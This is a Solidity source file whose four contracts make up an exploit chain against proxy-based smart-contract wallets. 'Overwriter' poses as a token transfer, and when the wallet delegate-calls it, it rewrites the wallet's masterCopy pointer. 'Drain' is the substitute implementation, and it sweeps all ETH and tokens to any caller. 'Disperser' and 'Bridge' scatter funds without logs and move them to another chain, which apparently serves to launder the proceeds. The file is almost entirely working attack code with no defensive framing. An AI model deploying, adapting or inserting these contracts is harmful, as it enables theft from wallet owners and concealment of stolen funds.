// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.0;

interface Payable {
    function transfer(address to, uint256 value) external returns (bool);
    function balanceOf(address owner) external view returns (uint256);
}

/// Looks like a token's transfer to whoever signs it; run on a wallet's storage, it names another code for the wallet.
contract Overwriter {
    address private masterCopy;

    function transfer(address to, uint256) external {
        masterCopy = to;
    }
}

/// The other code: gives everything to whoever asks.
contract Drain {
    address private masterCopy;

    function sweepETH(address payable to) external {
        (bool paid,) = to.call{value: address(this).balance}("");
        require(paid);
    }

    function sweepERC20(address token, address to) external {
        Payable(token).transfer(to, Payable(token).balanceOf(address(this)));
    }
}

/// Pays many at once and gives back what is left; no log.
contract Disperser {
    function disperse(address payable[] calldata to, uint256 each) external payable {
        for (uint256 at = 0; at < to.length; at++) send(to[at], each);
        if (address(this).balance > 0) send(payable(msg.sender), address(this).balance);
    }

    function send(address payable to, uint256 value) private {
        (bool paid,) = to.call{value: value}("");
        require(paid);
    }
}

/// Takes value for another chain, and says for whom.
contract Bridge {
    event Locked(address indexed from, address indexed token, uint256 value, bytes32 recipient);

    function lock(bytes32 recipient) external payable {
        emit Locked(msg.sender, address(0), msg.value, recipient);
    }
}
